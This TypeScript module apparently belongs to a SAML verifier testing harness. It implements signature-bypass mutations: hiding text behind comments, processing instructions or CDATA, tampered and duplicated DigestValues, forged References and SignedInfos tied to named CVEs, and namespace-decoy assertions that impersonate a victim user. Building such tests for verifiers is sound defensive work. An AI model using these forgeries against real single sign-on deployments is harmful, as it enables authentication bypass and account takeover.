/**
 * @module Canonicalization mutations (docs/attacks.md §C): edits the signature cannot see (comments, PIs,
 * CDATA that exc-c14n drops or flattens), digest-only tampering (CVE-2025-29775), forged References
 * and SignedInfos (CVE-2024-45409, CVE-2025-29774), and the exc-c14n/digest helpers the other
 * signature mutations share. Digests are computed as a verifier does for a `#ID` Reference: enveloped
 * signature removed, comments dropped, exclusive canonicalization (xml-crypto's implementation).
 */
import { createHash } from 'node:crypto';
import type { Document, Element, Node } from '@xmldom/xmldom';
import { ExclusiveCanonicalization } from 'xml-crypto';
import type { DomMutation, MutationContext } from '../types.js';
import { DSIG_NS, SAML_NS, all, one, rootOf, signatureOf } from './dom.js';
import { copyOf } from './copy-node.js';
import { EVIL_ASSERTION_ID, forgedId, forgedAssertion, insertExtensions } from './xsw.js';

/** TAIL (docs/attacks.md §0): the attacker's own IdP account is `${victim}.evil.test`. */
export const TAIL = '.evil.test';

export const DIGEST_URI = {
  sha256: 'http://www.w3.org/2001/04/xmlenc#sha256',
  sha1: 'http://www.w3.org/2000/09/xmldsig#sha1',
  md5: 'http://www.w3.org/2001/04/xmldsig-more#md5',
} as const;
export type Hash = keyof typeof DIGEST_URI;

export function hashOfDigestUri(uri: string | null): Hash {
  const hash = (Object.keys(DIGEST_URI) as Hash[]).find((h) => DIGEST_URI[h] === uri);
  if (!hash) throw new Error(`unsupported DigestMethod ${String(uri)}`);
  return hash;
}

type C14nInput = Parameters<ExclusiveCanonicalization['process']>[0];

/** exc-c14n (without comments) of a node, as it stands in its document. */
export function excC14n(node: Element): string {
  return new ExclusiveCanonicalization().process(node as unknown as C14nInput, {});
}

/**
 * The octets a `#ID` Reference with [enveloped-signature, exc-c14n] digests. `exclude` removes
 * whole subtrees first, which is what an XPath filter `not(ancestor-or-self::X)` does (C14N-11).
 */
export function canonical(element: Element, exclude: readonly string[] = []): string {
  // The excluded subtrees are taken out for the canonicalization and put back where they were, instead of
  // canonicalizing a copy: the same text (the canonicalizer reads nothing outside the element), without
  // copying the subtree (xmldom's cloneNode was most of this function's cost), and the DOM as it was.
  const taken: Array<{ node: Element; parent: Node; next: Node | null }> = [];
  const take = (node: Element | undefined): void => {
    const parent = node?.parentNode;
    if (!node || !parent) return;
    taken.push({ node, parent, next: node.nextSibling });
    parent.removeChild(node);
  };
  try {
    take(signatureOf(element));
    for (const name of exclude) for (const el of all(element, name)) take(el);
    return excC14n(element);
  } finally {
    for (let i = taken.length - 1; i >= 0; i--) {
      const { node, parent, next } = taken[i]!;
      parent.insertBefore(node, next);
    }
  }
}

export function digestOf(element: Element, hash: Hash = 'sha256', exclude: readonly string[] = []): string {
  return createHash(hash).update(canonical(element, exclude), 'utf8').digest('base64');
}

function dom(name: string, apply: (doc: Document, ctx: MutationContext) => void): DomMutation {
  return { name, stage: 'after-sign', apply };
}

/** The element a Signature's single Reference points at, which must be its parent (enveloped). */
function signedBy(signature: Element): Element {
  const parent = signature.parentNode as Element | null;
  const uri = one(signature, 'Reference').getAttribute('URI');
  if (!parent || uri !== `#${parent.getAttribute('ID')}`)
    throw new Error(`the Signature's Reference ${String(uri)} is not its parent`);
  return parent;
}

function firstSignature(doc: Document): Element {
  return one(doc, 'Signature');
}

export type Splitter = 'comment' | 'processing-instruction' | 'cdata';

/**
 * Every text node whose whole value is `full` becomes `head`, then the rest hidden behind a comment
 * (`head<!---->rest`), inside a processing instruction (`head<?x rest?>`) or as CDATA
 * (`head<![CDATA[rest]]>`). Canonical text is unchanged (xml-crypto renders a PI's data as text);
 * a reader that takes only the first text node reads `head`.
 */
export function splitText(
  describe: string,
  full: (ctx: MutationContext) => string,
  head: (ctx: MutationContext) => string,
  how: Splitter,
  within?: string,
): DomMutation {
  return dom(`split "${describe}" with a ${how}`, (doc, ctx) => {
    const whole = full(ctx);
    const first = head(ctx);
    if (!whole.startsWith(first) || whole === first)
      throw new Error('splitText: head must be a proper prefix');
    const rest = whole.slice(first.length);
    const roots = within ? all(doc, within) : [rootOf(doc)];
    const hits: Node[] = [];
    const visit = (node: Node): void => {
      for (let c = node.firstChild; c; c = c.nextSibling) {
        if (c.nodeType === 3 && c.nodeValue === whole) hits.push(c);
        else if (c.nodeType === 1) visit(c);
      }
    };
    roots.forEach(visit);
    if (hits.length === 0) throw new Error(`splitText: no text node equals "${whole}"`);
    for (const text of hits) {
      const parent = text.parentNode!;
      const parts =
        how === 'comment'
          ? [doc.createTextNode(first), doc.createComment(''), doc.createTextNode(rest)]
          : how === 'cdata'
            ? [doc.createTextNode(first), doc.createCDATASection(rest)]
            : [doc.createTextNode(first), doc.createProcessingInstruction('x', rest)];
      for (const part of parts) parent.insertBefore(part, text);
      parent.removeChild(text);
    }
  });
}

/** C14N-01..03: `${victim}.evil.test` (signed) becomes `${victim}` + hidden `.evil.test`. */
export function splitTail(how: Splitter, within?: string): DomMutation {
  const full = (ctx: MutationContext): string => `${ctx.identities.victim}${TAIL}`;
  return splitText('victim + TAIL', full, (ctx) => ctx.identities.victim, how, within);
}

/**
 * C14N-05 (CVE-2025-29775): after tampering, each signature (innermost first) gets the digest of its
 * tampered element as a leading comment in DigestValue. SignedInfo's c14n drops the comment, so the
 * SignatureValue still verifies; a verifier reading `DigestValue.firstChild` compares the new digest.
 */
export function digestValueComment(): DomMutation {
  return dom('DigestValue gets a leading comment holding the tampered digest', (doc) => {
    const signatures = all(doc, 'Signature').filter((s) => s.namespaceURI === DSIG_NS);
    if (signatures.length === 0) throw new Error('no Signature to put a DigestValue comment in');
    const depth = (n: Node): number => (n.parentNode ? 1 + depth(n.parentNode) : 0);
    for (const signature of signatures.sort((a, b) => depth(b) - depth(a))) {
      const digestMethod = one(signature, 'DigestMethod').getAttribute('Algorithm');
      const value = one(signature, 'DigestValue');
      const forged = digestOf(signedBy(signature), hashOfDigestUri(digestMethod));
      value.insertBefore(doc.createComment(forged), value.firstChild);
    }
  });
}

/** C14N-06: the first DigestValue's unchanged text split by an empty comment (`OR<!---->IG`). */
export function splitDigestValue(): DomMutation {
  return dom('DigestValue text split by a comment', (doc) => {
    const value = one(firstSignature(doc), 'DigestValue');
    const text = value.textContent ?? '';
    if (text.length < 2) throw new Error('DigestValue is empty');
    const half = Math.floor(text.length / 2);
    while (value.firstChild) value.removeChild(value.firstChild);
    value.appendChild(doc.createTextNode(text.slice(0, half)));
    value.appendChild(doc.createComment(''));
    value.appendChild(doc.createTextNode(text.slice(half)));
  });
}

/** C14N-07: a second DigestValue in the same Reference, holding the tampered element's digest. */
export function secondDigestValue(): DomMutation {
  return dom('second DigestValue with the tampered digest', (doc) => {
    const signature = firstSignature(doc);
    const value = one(signature, 'DigestValue');
    const second = value.cloneNode(false) as Element;
    second.appendChild(doc.createTextNode(digestOf(signedBy(signature))));
    value.parentNode!.insertBefore(second, value.nextSibling);
  });
}

/**
 * C14N-08 (CVE-2024-45409): a copy of the Assertion's Reference whose DigestValue matches the
 * tampered Assertion sits in <samlp:Extensions>, earlier in the document than the real Signature.
 * Document-wide `//ds:Reference` / `//ds:DigestValue` lookups find it first; the real SignedInfo and
 * SignatureValue are untouched.
 */
export function earlierForgedReference(): DomMutation {
  return dom('forged Reference with the tampered digest earlier in the document', (doc) => {
    const assertion = one(doc, 'Assertion');
    const signature = signatureOf(assertion);
    if (!signature) throw new Error('the Assertion is not signed');
    const reference = copyOf(one(signature, 'Reference'));
    const value = one(reference, 'DigestValue');
    while (value.firstChild) value.removeChild(value.firstChild);
    value.appendChild(doc.createTextNode(digestOf(assertion)));
    insertExtensions(doc).appendChild(reference);
  });
}

/**
 * C14N-09 (CVE-2025-29774): the signed Assertion stays intact; a forged unsigned copy
 * (`_evil_assertion_ID`, victim) goes before it, and its Signature gains a second SignedInfo whose
 * Reference points at the forged copy with that copy's true digest — as a second direct child of
 * Signature, or wrapped in an unknown element.
 */
export function secondSignedInfo(placement: 'sibling' | 'wrapped'): DomMutation {
  return dom(`second SignedInfo (${placement}) referencing a forged Assertion`, (doc, ctx) => {
    const assertion = one(doc, 'Assertion');
    const signature = signatureOf(assertion);
    if (!signature) throw new Error('the Assertion is not signed');
    const forged = forgedAssertion(assertion, ctx, forgedId(EVIL_ASSERTION_ID, ctx));
    rootOf(doc).insertBefore(forged, assertion);
    const signedInfo = one(signature, 'SignedInfo');
    const second = copyOf(signedInfo);
    one(second, 'Reference').setAttribute('URI', `#${forgedId(EVIL_ASSERTION_ID, ctx)}`);
    const value = one(second, 'DigestValue');
    while (value.firstChild) value.removeChild(value.firstChild);
    value.appendChild(doc.createTextNode(digestOf(forged)));
    let node = second;
    if (placement === 'wrapped') {
      node = doc.createElementNS(null, 'Wrapper');
      node.appendChild(second);
    }
    signature.insertBefore(node, signedInfo.nextSibling);
  });
}

/**
 * C14N-13: a forged copy of the Assertion (victim, `_evil_assertion_ID`) with the same unprefixed
 * element names but bound to a foreign namespace goes before the signed one. Namespace-aware code
 * sees one SAML Assertion; code matching local names (or a default-namespace prefix) sees two.
 */
export const FOREIGN_NS = 'urn:samlspec:not-the-saml-assertion-namespace';
export function foreignNamespaceDecoy(): DomMutation {
  return dom('forged Assertion rebound to a foreign namespace before the signed one', (doc, ctx) => {
    const assertion = one(doc, 'Assertion');
    if (assertion.namespaceURI !== SAML_NS) throw new Error('first(Assertion) is not a SAML Assertion');
    const forged = forgedAssertion(assertion, ctx, forgedId(EVIL_ASSERTION_ID, ctx));
    rootOf(doc).insertBefore(rebind(doc, forged, SAML_NS, FOREIGN_NS), assertion);
  });
}

/** Copies `element`, moving every element in namespace `from` to namespace `to` (same qualified name). */
function rebind(doc: Document, element: Element, from: string, to: string): Element {
  const ns = element.namespaceURI === from ? to : element.namespaceURI;
  const copy = doc.createElementNS(ns, element.tagName);
  for (const attr of Array.from(element.attributes)) {
    if (attr.namespaceURI === 'http://www.w3.org/2000/xmlns/') continue;
    if (attr.namespaceURI) copy.setAttributeNS(attr.namespaceURI, attr.name, attr.value);
    else copy.setAttribute(attr.name, attr.value);
  }
  for (let c = element.firstChild; c; c = c.nextSibling) {
    copy.appendChild(c.nodeType === 1 ? rebind(doc, c as Element, from, to) : copyOf(c));
  }
  return copy;
}
